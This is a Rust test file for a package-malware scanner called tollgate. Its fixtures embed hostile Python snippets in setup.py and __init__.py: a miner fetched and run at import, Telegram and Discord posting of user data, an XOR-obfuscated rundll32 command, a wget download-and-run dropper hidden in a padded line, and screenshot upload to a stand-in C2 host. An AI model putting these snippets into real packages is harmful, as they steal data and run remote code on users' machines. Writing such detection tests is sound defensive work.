//! Verdicts on the text-level signals: miners, bot tokens, XOR-hidden commands, one-line
//! droppers in long lines, screen capture. The cases are written for tollgate; the ones
//! that reconstruct the shape of a real campaign say so, with every host under
//! `.example.invalid`.

mod common;

use common::{PKG_INFO, rules, setup_py, verdict};
use tollgate_analysis::VerdictLevel;

#[test]
fn miner_fetched_and_started_at_import_is_at_least_suspicious() {
    // Reconstruction of the shape of a requests-squat that fetched xmrig at import.
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "from setuptools import setup\nsetup(name='fixture')\n",
        ),
        (
            "fixture/__init__.py",
            "import os, urllib.request\n\
             urllib.request.urlretrieve('https://dl.example.invalid/xmrig', '/tmp/.x')\n\
             os.system('chmod +x /tmp/.x; /tmp/.x -o stratum+tcp://pool.example.invalid:3333 --donate-level 1 &')\n",
        ),
    ]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(rules(&verdict).contains(&"crypto-miner"), "{verdict:#?}");
}

#[test]
fn the_word_miner_in_documentation_is_not_a_miner() {
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "from setuptools import setup\nsetup(name='fixture')\n",
        ),
        (
            "fixture/__init__.py",
            "\"\"\"Data mining helpers; see the miner module.\"\"\"\ndef mine(rows):\n    return rows\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn hard_coded_telegram_bot_token_that_posts_is_at_least_suspicious() {
    let verdict = setup_py(
        "import requests, os\nfrom setuptools import setup\n\
         TOKEN = '123456789:AAHfakeTokenForTollgateTests0123456'\n\
         requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', \
         data={'chat_id': 1, 'text': os.getlogin()})\n\
         setup(name='fixture')\n",
    );
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(rules(&verdict).contains(&"bot-token"), "{verdict:#?}");
}

#[test]
fn discord_webhook_with_its_token_is_a_bot_token() {
    let verdict = setup_py(
        "import requests\nfrom setuptools import setup\n\
         HOOK = 'https://discord.com/api/webhooks/1234567890123456789/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ_-0123456789KLMNOPQRSTUVWXYZ0123'\n\
         requests.post(HOOK, json={'content': 'installed'})\n\
         setup(name='fixture')\n",
    );
    assert!(rules(&verdict).contains(&"bot-token"), "{verdict:#?}");
}

/// XORs `text` with `key` and writes it as a Python bytes literal of `\x..` escapes.
fn xor_literal(text: &str, key: u8) -> String {
    let escaped: String = text
        .bytes()
        .map(|b| format!("\\x{:02x}", b ^ key))
        .collect();
    format!("b'{escaped}'")
}

#[test]
fn xor_hidden_command_line_is_encoded_code() {
    let hidden = xor_literal("rundll32.exe C:\\Users\\Public\\a.dll,Start", 0x5a);
    let body = format!(
        "import subprocess\nfrom setuptools import setup\n\
         data = {hidden}\n\
         subprocess.Popen(bytes(b ^ 0x5a for b in data).decode())\n\
         setup(name='fixture')\n"
    );
    let verdict = setup_py(&body);
    assert!(rules(&verdict).contains(&"encoded-code"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn xor_of_plain_binary_data_is_not_encoded_code() {
    // A lookup table that XORs to nothing readable.
    let table: String = (0u8..64)
        .map(|b| format!("\\x{:02x}", b.wrapping_mul(37) ^ 0x9c))
        .collect();
    let body = format!("from setuptools import setup\nTABLE = b'{table}'\nsetup(name='fixture')\n");
    let verdict = setup_py(&body);
    assert!(!rules(&verdict).contains(&"encoded-code"), "{verdict:#?}");
}

#[test]
fn long_one_line_dropper_is_download_run() {
    // A single line padded past the long-line limit, as minified droppers are.
    let padding = "x = 1; ".repeat(80);
    let body = format!(
        "from setuptools import setup\n{padding}import os; os.system('wget -q https://dl.example.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p')\n\
         setup(name='fixture')\n"
    );
    let verdict = setup_py(&body);
    assert!(rules(&verdict).contains(&"download-run"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn screenshot_sent_out_is_surveillance() {
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "from setuptools import setup\nsetup(name='fixture')\n",
        ),
        (
            "fixture/__init__.py",
            "import mss, requests\n\
             with mss.mss() as sct:\n    shot = sct.shot(output='/tmp/s.png')\n\
             requests.post('https://c2.example.invalid/u', files={'f': open(shot, 'rb')})\n",
        ),
    ]);
    assert!(rules(&verdict).contains(&"surveillance"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}
